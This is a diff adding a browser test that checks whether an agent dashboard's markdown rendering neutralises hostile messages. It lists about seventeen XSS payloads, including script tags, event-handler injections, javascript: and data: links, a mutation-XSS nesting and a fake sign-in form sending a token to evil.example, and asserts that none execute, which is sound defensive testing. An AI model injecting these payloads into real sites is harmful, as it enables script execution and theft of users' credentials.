@@ -1,0 +1,81 @@
+import { expect, test } from 'vitest';
+import { Agent } from './support/agent.ts';
+import { Dashboard } from './support/dashboard.ts';
+
+const dashboard = Dashboard.forTests();
+
+const HOSTILE = [
+  '<script>window.hacked = true</script>',
+  '<img src=x onerror="window.hacked = true">',
+  '<svg onload="window.hacked = true"><animate onbegin="window.hacked = true"/></svg>',
+  '<iframe srcdoc="<script>parent.hacked = true</script>"></iframe>',
+  '<a href="javascript:window.hacked = true">html link</a>',
+  '[script link](javascript:window.hacked=true)',
+  '[spaced link](<java\tscript:window.hacked=true>)',
+  '[data link](data:text/html,<script>opener.hacked=true</script>)',
+  '[route link](#/keys)',
+  '[code link](#code=stolen)',
+  '![remote image](https://tracker.example/pixel.gif)',
+  '![script image](javascript:window.hacked=true)',
+  '<style>* { display: none }</style>',
+  '<form action="https://evil.example"><input name="token"><button>Sign in</button></form>',
+  '<math><mtext><table><mglyph><style><img src=x onerror="window.hacked=true"></style></mglyph></table></mtext></math>',
+  '```\n</code></pre><script>window.hacked = true</script>\n```',
+  '"><img src=x onerror=window.hacked=true>',
+];
+
+test('a hostile message stays inert', async () => {
+  const page = await dashboard.open();
+  const foreign: string[] = [];
+  page.on('request', (request) => {
+    if (!request.url().startsWith(dashboard.server.url)) foreign.push(request.url());
+  });
+  const agent = new Agent(dashboard.server);
+  for (const text of HOSTILE) await agent.step(text);
+  await agent.step('[a good link](https://example.com/)');
+  await agent.ask(
+    `${HOSTILE.join('\n\n')}\n[OPTIONS]\n1. <img src=x onerror="window.hacked=true">\n2. No\n[/OPTIONS]`,
+  );
+  await page.getByRole('link', { name: /window.hacked/ }).click();
+  await page.getByRole('button', { name: 'No', exact: true }).waitFor();
+  const log = page.getByRole('log');
+  for (let at = 0; at < HOSTILE.length; at += 1) {
+    await log.evaluate((element) => {
+      // Everything but what leads away for good.
+      for (const one of element.querySelectorAll('.markdown *')) {
+        if (one.closest('a[href^="https:"]') === null)
+          one.dispatchEvent(new MouseEvent('click', { bubbles: true }));
+      }
+    });
+    await log.press('PageUp');
+    const found = await log.evaluate((element) => ({
+      elements: element.querySelectorAll(
+        'script, img, iframe, object, embed, form, input, style, math, .markdown svg',
+      ).length,
+      handlers: [...element.querySelectorAll('.markdown *')].filter((one) =>
+        [...one.attributes].some(({ name }) => name.startsWith('on') || name === 'style'),
+      ).length,
+      links: [...element.querySelectorAll<HTMLAnchorElement>('.markdown a')].map(
+        ({ href, rel }) => `${href} ${rel}`,
+      ),
+    }));
+    expect(found.elements).toBe(0);
+    expect(found.handlers).toBe(0);
+    for (const link of found.links) expect(link).toMatch(/^https:\/\/\S+ noopener noreferrer$/);
+  }
+  expect(await page.evaluate(() => 'hacked' in window)).toBe(false);
+  expect(page.url()).toContain('#/instances/');
+  expect(foreign).toEqual([]);
+  expect(dashboard.complaints).toEqual([]);
+});
+
+test('the page is under a policy that runs files of its own only', async () => {
+  const page = await dashboard.open();
+  const ran = await page.evaluate(() => {
+    const script = document.createElement('script');
+    script.textContent = 'window.inlined = true';
+    document.body.append(script);
+    return 'inlined' in window;
+  });
+  expect(ran).toBe(false);
+});
